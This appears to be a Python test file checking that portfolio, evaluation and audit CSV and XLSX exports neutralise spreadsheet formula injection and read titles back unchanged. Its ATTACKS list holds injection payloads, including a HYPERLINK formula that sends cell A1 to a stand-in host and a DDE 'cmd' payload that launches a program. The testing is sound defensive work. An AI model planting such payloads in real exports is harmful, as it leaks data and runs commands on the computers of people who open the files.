"""Issue 19, item 4: no exported spreadsheet cell runs. Titles such as `=HYPERLINK("http://x/?"&A1,"x")`
became live formulas in the XLSX and unescaped `=`/`+`/`@` cells in the portfolio, evaluation and audit
CSVs; now every CSV text a spreadsheet would run starts with an apostrophe, every XLSX text is a text
cell, and the portfolio files read back to the very same titles."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from evaluation.domain.proposal import Proposal
from evaluation.domain.workflow import EntityType
from evaluation.exchange.csv_cells import neutralised, restored
from evaluation.exchange.files import dump_proposals, parse_proposals
from evaluation.pipeline.evaluate import records_to_csv
from evaluation.storage.audit_export import audit_csv
from evaluation.storage.stored import AuditEvent
from tests.support.proposals import full_proposal_data

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1",
           "'=déjà une apostrophe", "''=deux"]


def _proposal(title: str) -> Proposal:
    data = full_proposal_data("formule")
    data["title"] = title
    data["options"][0]["name"] = title
    return Proposal.model_validate(data)


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in row]


@pytest.mark.parametrize("title", ATTACKS)
def test_a_formula_title_is_text_in_the_portfolio_csv_and_reads_back(title: str) -> None:
    data = dump_proposals([_proposal(title)], "csv")
    cells = _csv_cells(data)
    assert "'" + title in cells and title not in cells
    assert parse_proposals(data, "dossiers.csv")[0].title == title.strip()  # cells are read stripped


@pytest.mark.parametrize("title", ATTACKS)
def test_a_formula_title_is_a_text_cell_in_the_portfolio_xlsx_and_reads_back(title: str) -> None:
    data = dump_proposals([_proposal(title)], "xlsx")
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == title]
    assert cells and all(cell.data_type == "s" for cell in cells)  # "f" was a live formula
    assert parse_proposals(data, "dossiers.xlsx")[0].title == title.strip()


def test_the_evaluation_csv_neutralises_texts_and_keeps_numbers() -> None:
    data = records_to_csv([{"proposal": {"title": "=1+1", "id": "x"}, "npv": -1234.5, "note": "@x"}])
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert rows == [{"proposal.title": "'=1+1", "proposal.id": "x", "npv": "-1234.5", "note": "'@x"}]


def test_the_audit_csv_neutralises_what_people_typed() -> None:
    event = AuditEvent(id=1, at=dt.datetime(2026, 12, 3, tzinfo=dt.UTC), actor="=cmd", entity_type=EntityType.PROPOSAL,
                       entity_id="+x", proposal_id="x", action="update", before=None, after={"title": "=1"})
    row = next(csv.DictReader(io.StringIO(audit_csv([event]).decode())))
    assert (row["actor"], row["entity_id"]) == ("'=cmd", "'+x")
    assert row["after"] == '{"title":"=1"}'  # a JSON text starts with "{": nothing to run


@pytest.mark.parametrize("text", ["\r=x", "\t+x", "=x", "'=x", "''=x", "'abc", "abc", "-", "'", "", "a=b"])
def test_neutralising_then_restoring_gives_the_text_back(text: str) -> None:
    written = neutralised(text)
    assert isinstance(written, str) and restored(written) == text
    assert written[:1] not in ("=", "+", "-", "@", "\t", "\r")
